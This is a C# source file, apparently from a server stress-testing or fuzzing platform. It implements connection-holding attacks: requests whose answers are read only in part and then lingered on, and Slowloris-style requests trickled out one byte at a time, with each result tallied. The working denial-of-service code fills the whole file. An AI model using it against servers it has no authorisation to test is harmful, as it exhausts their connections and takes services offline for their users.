using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Platform.Attack.Running;
using Platform.Fuzz.Wire;

namespace Platform.Attack.Wire;

/// <summary>Connections that are not used as they are meant to be: bytes that come one after another, answers that nobody reads.</summary>
internal static class Held
{
    private const int SmallBuffer = 4096;

    /// <summary>Sends a request, reads the head of its answer and nothing more, and stays when it is let in.</summary>
    public static async Task UnreadAsync(WireRequest request, IPAddress from, KindTally tally, TimeSpan stay, CancellationToken stop)
    {
        tally.Send();
        await using var stream = await Connection.OpenAsync(request.Server.Host, request.Server.Port, from, SmallBuffer, stop);
        await stream.WriteAsync(request.ToBytes(), stop);
        var status = await StatusAsync(stream, stop);
        tally.Answer(status);
        if (status is > 0 and < 300)
        {
            await Task.Delay(stay, stop);
        }
    }

    /// <summary>Sends the beginning of a request, then a byte now and again, until it is answered, the connection is closed, or it has been long enough.</summary>
    public static async Task SlowlyAsync(Uri server, byte[] beginning, byte next, TimeSpan pause, TimeSpan longest, IPAddress from, KindTally tally, CancellationToken stop)
    {
        tally.Send();
        await using var stream = await Connection.OpenAsync(server.Host, server.Port, from, null, stop);
        await stream.WriteAsync(beginning, stop);
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(stop);
        limit.CancelAfter(longest);
        var answer = StatusAsync(stream, limit.Token);
        try
        {
            while (await Task.WhenAny(answer, Task.Delay(pause, limit.Token)) != answer)
            {
                limit.Token.ThrowIfCancellationRequested();
                await stream.WriteAsync(new[] { next }, limit.Token);
            }

            tally.Answer(await answer);
        }
        catch (Exception exception) when (exception is IOException or SocketException || (exception is OperationCanceledException && !stop.IsCancellationRequested))
        {
            // Nobody minded for so long, or the connection was closed without a word, or before the word was read.
            tally.Answer(await StatusOrNoneAsync(answer));
        }
    }

    private static async Task<int> StatusOrNoneAsync(Task<int> answer)
    {
        try
        {
            return await answer;
        }
        catch (Exception exception) when (exception is IOException or SocketException or OperationCanceledException)
        {
            return 0;
        }
    }

    /// <summary>The status of the answer; 0 where the connection is closed without one.</summary>
    private static async Task<int> StatusAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var head = new byte[16];
        var length = 0;
        while (length < head.Length)
        {
            var read = await stream.ReadAsync(head.AsMemory(length), cancellationToken);
            if (read == 0)
            {
                break;
            }

            length += read;
        }

        return Encoding.ASCII.GetString(head, 0, length).Split(' ') is [_, var code, ..] && int.TryParse(code, NumberStyles.None, CultureInfo.InvariantCulture, out var status) ? status : 0;
    }
}
